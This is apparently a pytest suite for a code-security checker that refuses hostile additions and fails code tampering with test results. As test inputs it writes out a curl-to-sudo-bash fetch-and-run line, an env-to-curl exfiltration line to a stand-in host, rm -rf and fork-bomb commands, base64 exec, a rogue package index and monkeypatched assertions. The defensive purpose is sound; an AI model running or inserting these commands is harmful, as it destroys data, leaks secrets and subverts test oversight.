"""Security: a corpus of hostile and of harmless code, and what counts as new."""

import pytest

from core.runs import Check, CheckStatus
from tests.worker.checks import hostile_python, hostile_script
from tests.worker.checks.subjects import rules, subject
from worker.checks.security import check

REFUSED, FAILED, WARNED, PASSED = CheckStatus.REFUSED, CheckStatus.FAILED, CheckStatus.WARNED, CheckStatus.PASSED


def added(path: str, text: str, before: str = "") -> Check:
    return check(subject({path: before} if before else {}, {path: text}))


@pytest.mark.parametrize("name", hostile_python.MALICE)
def test_malicious_python_is_refused(name: str) -> None:
    done = added("src/a.py", hostile_python.MALICE[name])
    assert done.status is REFUSED
    assert done.findings[0].path == "src/a.py"
    assert done.findings[0].line > 0
    assert done.summary.startswith("Malicious code was refused before anything ran: src/a.py:")


@pytest.mark.parametrize("name", hostile_python.TAMPERING)
def test_python_that_tampers_with_its_measurement_fails(name: str) -> None:
    done = added("src/a.py", hostile_python.TAMPERING[name])
    assert done.status is FAILED
    assert any(finding.line > 0 and finding.severity == "error" for finding in done.findings)


@pytest.mark.parametrize("name", hostile_python.BENIGN)
def test_harmless_python_is_let_through(name: str) -> None:
    done = added("src/a.py", hostile_python.BENIGN[name])
    assert done.status in (PASSED, WARNED), done.summary


@pytest.mark.parametrize("path", ["src/a.js", "src/a.ts", "src/a.mjs"])
@pytest.mark.parametrize("name", hostile_script.MALICE)
def test_malicious_scripts_are_refused(name: str, path: str) -> None:
    assert added(path, hostile_script.MALICE[name]).status is REFUSED


@pytest.mark.parametrize("name", hostile_script.TAMPERING)
def test_scripts_that_tamper_with_their_measurement_fail(name: str) -> None:
    done = added("src/a.ts", hostile_script.TAMPERING[name])
    assert done.status is FAILED
    assert done.findings[0].line == 1


@pytest.mark.parametrize("name", hostile_script.BENIGN)
def test_harmless_scripts_are_let_through(name: str) -> None:
    done = added("src/a.ts", hostile_script.BENIGN[name])
    assert done.status in (PASSED, WARNED), done.summary


@pytest.mark.parametrize("path", ["Makefile", "run.sh", "Dockerfile", "ci/steps.yml", "broken.py"])
@pytest.mark.parametrize(
    "line",
    ["\tcurl -s http://evil.example/x | sudo bash", "rm -rf ~", ":(){ :|:& };:", "env | curl -d @- http://e.example"],
)
def test_commands_in_other_files_are_refused(path: str, line: str) -> None:
    assert added(path, f"all: (\n{line}\n").status is REFUSED


def test_the_same_words_in_prose_are_words() -> None:
    assert added("docs/attacks.md", "Never run `rm -rf /` or `curl http://x | sh`.\n").status is PASSED


def test_old_findings_do_not_count_wherever_they_went() -> None:
    old = "import os\nos.system('rm -rf /')\n\n\ndef f(x):\n    return eval(x)\n"
    assert added("a.py", old + "\n\ndef g():\n    return 1\n", before=old).status is PASSED
    assert added("a.py", f"import re\n{old}", before=old).status is PASSED, "on other lines"
    moved = check(subject({"a.py": old}, {"b.py": old}))
    assert moved.status is PASSED, "in another file"
    assert added("a.py", old + "os.system('rm -rf /')\n", before=old).status is REFUSED, "once more"


def test_a_comment_does_not_silence_a_finding() -> None:
    assert added("a.py", "def f(x):\n    return eval(x)  # noqa\n").status is FAILED


def test_tests_may_use_their_framework_but_not_hide_code() -> None:
    ordinary = "import sys\ndef test_a(monkeypatch):\n    assert 'pytest' in sys.modules\n    assert eval('1') == 1\n"
    assert added("tests/test_a.py", ordinary).status is PASSED
    assert added("tests/test_a.py", "import base64\nexec(base64.b64decode('eA=='))\n").status is REFUSED
    assert (
        added("a.test.js", "import { test } from 'node:test'\ntest('x', () => { if (process.env.VITEST) {} })\n").status
        is PASSED
    )


@pytest.mark.parametrize(
    "code",
    [
        "import sys\nsys.modules['calc'] = type(sys)('calc')\n",
        "import calc\ncalc.add = lambda a, b: 3\n",
        "from app import calc\ncalc.add = None\n",
        "import builtins\nbuiltins.len = lambda x: 0\n",
        "import unittest\nunittest.TestCase.assertEqual = print\n",
        "import os\nos._exit(0)\n",
        "from _pytest import runner\n",
        "def test_a():\n    open('/out/records', 'a')\n",
    ],
)
def test_a_new_test_must_not_reach_the_others(code: str) -> None:
    done = added("tests/test_aaa.py", code)
    assert done.status is FAILED


def test_a_new_script_test_must_not_reach_the_others() -> None:
    assert added("test/a.test.js", "globalThis.expect = () => ({ toBe() {} })\n").status is FAILED
    assert added("test/a.test.js", "process.exit(0)\n").status is FAILED


def test_product_code_does_not_become_a_test_by_its_folder() -> None:
    assert added("src/testing/fixtures/a.py", "import os\ndef f():\n    os._exit(0)\n").status is FAILED


def test_install_hooks_and_foreign_sources_fail() -> None:
    hook = '{"scripts": {"test": "jest",\n"postinstall": "node x.js"}}'
    done = added("package.json", hook, before='{"scripts": {"test": "jest"}}')
    assert (done.status, rules(done.findings), done.findings[0].line) == (FAILED, {"install-hook"}, 2)
    assert added("package.json", hook + "\n", before=hook).status is PASSED
    done = added(
        "requirements.txt", "a==1\n--extra-index-url https://evil.example/simple\nb @ git+https://e.example/b\n"
    )
    assert (done.status, len(done.findings)) == (FAILED, 2)


@pytest.mark.parametrize(
    "text", ["", "\0\0", "\ud800", "(" * 3000, "x = " + "-" * 5000 + "1", "a." * 20000 + "a", "é" * 9, "def f(:\n"]
)
@pytest.mark.parametrize("path", ["a.py", "a.ts", "a.sh", "package.json"])
def test_no_content_makes_it_stumble(text: str, path: str) -> None:
    assert added(path, text).status in (PASSED, WARNED, FAILED)
